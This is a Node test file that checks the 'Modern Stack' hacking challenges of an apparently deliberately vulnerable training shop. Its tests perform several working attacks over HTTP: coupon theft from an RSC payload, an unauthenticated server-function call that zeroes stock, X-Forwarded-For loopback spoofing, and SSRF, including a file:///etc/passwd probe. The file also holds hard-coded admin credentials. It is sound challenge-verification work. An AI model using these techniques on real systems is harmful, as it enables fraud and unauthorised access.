import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { challengeSolved, closeBrowser, open, SHOP, visitor } from './browser.ts';
import { keepLogin, newCustomer, signedInCustomer, tokenFor } from './customers.ts';

/**
 * The Modern Stack challenges of the server components (issue 13, ids 114-118): each solved by
 * its attack over HTTP, each first shown not to be solved by an honest visit.
 */

after(closeBrowser);

const ADMIN = { email: 'admin@juice-sh.op', password: 'admin123' };

async function loginOf(email: string, password: string) {
  const res = await fetch(`${SHOP}/rest/user/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email, password }),
  });
  assert.equal(res.status, 200, `login of ${email}`);
  return ((await res.json()) as { authentication: { token: string; bid: number } }).authentication;
}

async function newCustomerLogin(label: string) {
  const customer = await newCustomer(label);
  return { ...customer, ...(await loginOf(customer.email, customer.password)) };
}

const page = async (path: string, headers: Record<string, string> = {}) => {
  const res = await fetch(`${SHOP}${path}`, { headers });
  assert.equal(res.status, 200, path);
  return res.text();
};

const stockOf = async (productId: number) => {
  const { data } = (await (await fetch(`${SHOP}/api/Quantitys`)).json()) as { data: Array<{ ProductId: number; quantity: number }> };
  return data.find((q) => q.ProductId === productId)?.quantity;
};

test('the staff coupon: an honest shopper neither sees nor redeems it; admins see it in the details dialog', async () => {
  const { page: p, context } = await visitor();
  await open(p, '/search');
  await p
    .getByRole('button', { name: /Apple Juice/ })
    .first()
    .click();
  await p.getByRole('dialog').getByText('bonus points', { exact: false }).waitFor();
  assert.equal(await p.locator('#staff-offer').count(), 0);
  await context.close();

  const shopper = await newCustomerLogin('honest-coupon');
  const res = await fetch(`${SHOP}/rest/basket/${shopper.bid}/coupon/${encodeURIComponent('not-a-coupon')}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${shopper.token}` },
  });
  assert.equal(res.status, 404);
  assert.equal(await challengeSolved('rscPayloadLeakChallenge'), false);

  const admin = await visitor();
  await open(admin.page, '/search');
  await keepLogin(admin.page, await tokenFor(ADMIN.email, ADMIN.password));
  await open(admin.page, '/search');
  await admin.page
    .getByRole('button', { name: /Apple Juice/ })
    .first()
    .click();
  await admin.page
    .locator('#staff-offer')
    .getByText(/^Staff offer: \d\d% off with coupon .{10}$/)
    .waitFor();
  await admin.context.close();
  assert.equal(await challengeSolved('rscPayloadLeakChallenge'), false);
});

test("Streamed Staff Secret: the coupon read from the product grid's RSC payload is redeemed in the payment screen's coupon field", async () => {
  const payload = await fetch(`${SHOP}/RSC/R/search.txt`);
  assert.equal(payload.headers.get('content-type'), 'text/x-component; charset=utf-8');
  const found = (await payload.text()).match(/"staffOffer":\{"discount":(\d+),"coupon":"([^"]+)"/);
  assert.ok(found, 'the staff coupon travels in the payload');
  const [, discount, coupon] = found as unknown as [string, string, string];
  // the code fits the coupon field, which takes exactly 10 characters
  assert.equal(coupon.length, 10);
  const { page: p, context, errors } = await visitor();
  await signedInCustomer(p, 'coupon-thief');
  await open(p, '/payment/shop');
  await p.locator('#collapseCouponElement summary').click();
  await p.locator('#coupon').fill(coupon);
  await p.locator('#applyCouponButton').click();
  await p.getByText(`A discount of ${discount}% is applied to your order.`).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
  assert.equal(await challengeSolved('rscPayloadLeakChallenge'), true);
});

/** What a player does in the developer tools: follows the shop's JavaScript imports until a chunk names the server function. */
async function findServerFunction(name: string): Promise<string> {
  const html = await page('/search');
  const queue = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)].map((m) => m[1]!);
  const seen = new Set<string>();
  while (queue.length) {
    const path = queue.shift()!;
    if (seen.has(path)) continue;
    seen.add(path);
    const js = await page(path);
    const id = js.match(new RegExp(`"([\\w.-]+)#${name}"|\`([\\w.-]+)#${name}\``));
    if (id) return (id[1] ?? id[2])!;
    for (const m of js.matchAll(/["'`]\.\/([\w.-]+\.js)["'`]/g)) queue.push(`/assets/${m[1]}`);
  }
  throw new Error(`no chunk names ${name}`);
}

test('restocking: customers get no restock form; the admin restocks through it without solving anything', async () => {
  const customer = await visitor();
  await open(customer.page, '/search');
  await keepLogin(customer.page, (await newCustomerLogin('honest-restock')).token);
  await open(customer.page, '/search');
  await customer.page
    .getByRole('button', { name: /Apple Juice/ })
    .first()
    .click();
  await customer.page.getByRole('dialog').getByText('bonus points', { exact: false }).waitFor();
  assert.equal(await customer.page.locator('#restockQuantity').count(), 0);
  await customer.context.close();

  const admin = await visitor();
  await open(admin.page, '/search');
  await keepLogin(admin.page, await tokenFor(ADMIN.email, ADMIN.password));
  await open(admin.page, '/search');
  await admin.page
    .getByRole('button', { name: /Apple Juice/ })
    .first()
    .click();
  await admin.page.locator('#restockQuantity').fill('77');
  await admin.page.getByRole('button', { name: 'Restock', exact: true }).click();
  await admin.page.getByRole('status').filter({ hasText: 'set to 77' }).waitFor();
  await admin.context.close();
  assert.equal(await stockOf(1), 77);
  assert.equal(await challengeSolved('unprotectedServerFunctionChallenge'), false);
});

test('Unprotected Server Function: a customer calls the restock function by the id found in the bundle', async () => {
  const id = await findServerFunction('restockProduct');
  const customer = await newCustomerLogin('restocker');
  const call = (body: string) =>
    fetch(`${SHOP}/RSC/F/${id}/restockProduct.txt`, {
      method: 'POST',
      headers: { cookie: `token=${customer.token}`, 'content-type': 'text/plain' },
      body,
    });
  const refused = await call('[1,"lots"]');
  assert.equal(refused.status, 200);
  assert.match(await refused.text(), /must be whole numbers/);
  assert.equal(await challengeSolved('unprotectedServerFunctionChallenge'), false);

  const res = await call('[1,0]');
  assert.equal(res.status, 200);
  assert.match(await res.text(), /"quantity":0/);
  assert.equal(await stockOf(1), 0);
  assert.equal(await challengeSolved('unprotectedServerFunctionChallenge'), true);

  const unknown = await fetch(`${SHOP}/RSC/F/0000000000/restockProduct.txt`, { method: 'POST', body: '[1,0]' });
  assert.equal(unknown.status, 400);
});

test('the last-order panel: each customer sees their own, however often they look', async () => {
  const customer = await newCustomerLogin('honest-history');
  for (let i = 0; i < 2; i++) assert.doesNotMatch(await page('/order-history', { cookie: `token=${customer.token}` }), /id="last-order"/);
  const admin = await loginOf(ADMIN.email, ADMIN.password);
  // the admin's own visit in German, twice: their own order both times
  const own = await page('/order-history', { cookie: `token=${admin.token}; language=de_DE` });
  const orderId = own.match(/Bestellung ([0-9a-f]{4}-[0-9a-f]{16})/)?.[1];
  assert.ok(orderId, 'the admin sees their last order');
  assert.match(await page('/order-history', { cookie: `token=${admin.token}; language=de_DE` }), new RegExp(orderId));
  assert.equal(await challengeSolved('sharedRenderCacheChallenge'), false);
});

// Cached Last Order's attack, one browser switching accounts, is in cached-last-order.test.ts

test('the staff desk: a visit from this very machine, without any forwarded header, shows none', async () => {
  const { page: p, context } = await visitor();
  await open(p, '/search');
  await p.locator('#product-search-results').waitFor();
  assert.equal(await p.locator('#staff-desk').count(), 0);
  await context.close();
  assert.doesNotMatch(await page('/search', { 'x-forwarded-for': '203.0.113.9' }), /id="staff-desk"/);
  assert.equal(await challengeSolved('forwardedHeaderTrustChallenge'), false);
});

test('Staff Desk Spoofing: claiming the loopback address in X-Forwarded-For opens the staff desk', async () => {
  const html = await page('/search', { 'x-forwarded-for': '127.0.0.1' });
  assert.match(html, /id="staff-desk"/);
  assert.match(html, /orders placed/);
  assert.equal(await challengeSolved('forwardedHeaderTrustChallenge'), true);
});

test('the about page previews no feed unless asked, and an outside address that does not answer solves nothing', async () => {
  assert.doesNotMatch(await page('/about'), /id="news-preview"/);
  const failed = await page(`/about?news=${encodeURIComponent('http://feed.invalid/news.xml')}`);
  assert.match(failed, /The news feed could not be read/);
  assert.doesNotMatch(await page('/about?news=file:///etc/passwd'), /id="news-preview"/);
  assert.equal(await challengeSolved('newsFeedSsrfChallenge'), false);
});

test('News Feed SSRF: the preview fetches an API of the shop from the loopback address and shows its answer', async () => {
  const port = new URL(SHOP).port || '80';
  const html = await page(`/about?news=${encodeURIComponent(`http://127.0.0.1:${port}/rest/admin/application-version`)}`);
  assert.match(html, /id="news-preview"/);
  assert.match(html, /version&quot;:&quot;\d+\.\d+\.\d+/);
  assert.equal(await challengeSolved('newsFeedSsrfChallenge'), true);
  // the shop fetching its own preview page does not preview again
  const nested = await page(`/about?news=${encodeURIComponent(`http://127.0.0.1:${port}/about?news=http://127.0.0.1:${port}/about`)}`);
  assert.equal(nested.match(/id="news-preview"/g)?.length, 1);
});
